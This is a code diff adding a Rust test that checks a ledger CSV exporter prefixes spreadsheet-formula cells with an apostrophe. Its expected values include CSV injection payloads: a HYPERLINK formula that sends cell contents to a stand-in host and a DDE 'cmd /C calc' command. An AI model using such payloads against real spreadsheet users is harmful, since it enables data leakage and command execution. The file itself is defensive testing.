@@ -4,7 +4,7 @@
 
 use crate::export_support;
 
-use duban::export::{ledger_csv, BOM, COLUMNS};
+use duban::export::{ledger_csv, neutralised, BOM, COLUMNS};
 use duban::filter::Filter;
 use export_support::*;
 
@@ -109,4 +109,38 @@ fn an_empty_view_is_the_header_alone() {
     let (headers, records) = read_back(&ledger_csv(&ledger.rows));
     assert_eq!(headers, COLUMNS);
     assert!(records.is_empty());
+}
+
+#[test]
+fn cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    let ledger = formula_ledger();
+    let (_, records) = read_back(&ledger_csv(&ledger.rows));
+    let texts: Vec<&str> = records.iter().map(|r| r[3].as_str()).collect();
+    assert_eq!(
+        texts,
+        [
+            "'=HYPERLINK(\"http://example.com/?d=\"&A1,\"点击查看\")",
+            "'@SUM(1+1)推进工作",
+            "'+1+2 推进工作",
+            "'-2+3 推进工作",
+            "'=1+1 推进工作",
+        ]
+    );
+    // Units and notes too; cells that are not formulas are left as they are.
+    assert_eq!(records[1][6], "'=1+2局");
+    assert_eq!(records[0][5], "市发改局");
+    assert_eq!(records[0][9], "'=cmd|' /C calc'!A0");
+    assert_eq!(records[1][9], "'-");
+    assert_eq!(records[0][0], "1");
+    for cell in records.iter().flatten() {
+        let first = cell.trim_start_matches([' ', '\u{3000}']).chars().next();
+        assert!(
+            !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
+            "{cell:?}"
+        );
+    }
+    assert_eq!(neutralised("（一）推进"), "（一）推进");
+    assert_eq!(neutralised("\t=1"), "'\t=1");
+    assert_eq!(neutralised("　=1"), "'　=1", "after a full-width space too");
+    assert_eq!(neutralised(""), "");
 }
